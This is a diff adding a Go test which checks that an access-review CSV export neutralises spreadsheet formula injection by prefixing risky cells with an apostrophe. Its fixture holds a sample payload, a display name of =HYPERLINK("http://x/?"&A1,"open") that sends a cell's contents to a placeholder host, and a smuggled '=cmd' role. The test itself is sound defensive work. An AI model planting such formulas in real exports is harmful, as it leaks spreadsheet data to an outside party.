@@ -128,3 +128,32 @@ func TestAccessReviewEscapesControls(t *testing.T) {
 		t.Errorf("rows (-want +got):\n%s", d)
 	}
 }
+
+// TestAccessReviewDefusesFormulas: a cell a spreadsheet would evaluate
+// (a display name such as =HYPERLINK(...), chosen by its user) starts with
+// ' instead; other cells, and = inside a cell, are left as they are.
+func TestAccessReviewDefusesFormulas(t *testing.T) {
+	st := model.State{
+		Users: []model.User{
+			{ID: "u1", UserName: "+1handle", Email: "a@example.com", DisplayName: `=HYPERLINK("http://x/?"&A1,"open")`, Active: true, OrgRole: "@role"},
+			{ID: "u2", UserName: "b", Email: "-b@example.com", DisplayName: "Bob = Builder", Active: true},
+		},
+		Teams: []model.Team{{ID: "g1", Name: "-ops", Members: []model.Member{{UserID: "u1"}, {UserID: "u2", Role: "=cmd"}}}},
+	}
+	var b bytes.Buffer
+	if err := WriteAccessReview(&b, st); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{
+		AccessReviewHeader,
+		{"'-b@example.com", "b", "Bob = Builder", "true", "", "'-ops:=cmd", "", ""},
+		{"a@example.com", "'+1handle", `'=HYPERLINK("http://x/?"&A1,"open")`, "true", "'@role", "'-ops", "", ""},
+	}
+	if d := cmp.Diff(want, rows); d != "" {
+		t.Errorf("rows (-want +got):\n%s", d)
+	}
+}
